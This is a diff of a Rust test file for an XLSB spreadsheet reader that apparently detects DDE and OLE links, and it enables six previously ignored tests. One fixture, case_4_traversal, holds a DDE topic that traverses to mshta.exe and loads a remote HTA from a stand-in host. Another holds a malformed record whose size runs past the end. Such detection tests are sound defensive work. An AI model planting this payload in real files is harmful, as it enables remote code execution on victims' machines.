@@ -22,7 +22,6 @@ fn book() -> Xlsb {
 
 /// The bytes of §2.3: the link part, and the cell as Excel wrote it in row 4.
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn case_1_as_excel_writes_it() {
     let cell = b"\x0b\x1a\x01\0\0\0\0\0\0\0\x17\0\0\x07\0\0\0\x59\0\0\x01\0\0\0\0\0\0\0";
     let row = [&3_u32.to_le_bytes()[..], &[0; 13]].concat();
@@ -50,7 +49,6 @@ fn case_1_as_excel_writes_it() {
 }
 
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn case_2_an_ole_link_is_not_dde() {
     let target = "http://example.invalid/a.doc";
     let head = [
@@ -86,7 +84,6 @@ fn case_2_an_ole_link_is_not_dde() {
 }
 
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn case_3_a_size_past_the_end() {
     let mut part = worked_link_part();
     part.extend(b"\xc1\x04\xff\xff\xff\x7f0123456789");
@@ -98,7 +95,6 @@ fn case_3_a_size_past_the_end() {
 }
 
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn case_4_traversal() {
     let topic = r"\..\..\..\Windows\System32\mshta.exe http://x/a.hta";
     let bytes = Xlsb::new(
@@ -113,7 +109,6 @@ fn case_4_traversal() {
 }
 
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn case_5_in_a_future_record() {
     let mut book = book();
     book.wrap = Some((35, 36));
@@ -122,7 +117,6 @@ fn case_5_in_a_future_record() {
 
 /// §2.2: a kind that is not known is read as DDE, with little confidence.
 #[test]
-#[ignore = "pending: xlsb reader"]
 fn another_kind_of_link() {
     let mut book = book();
     book.sbt = 9;
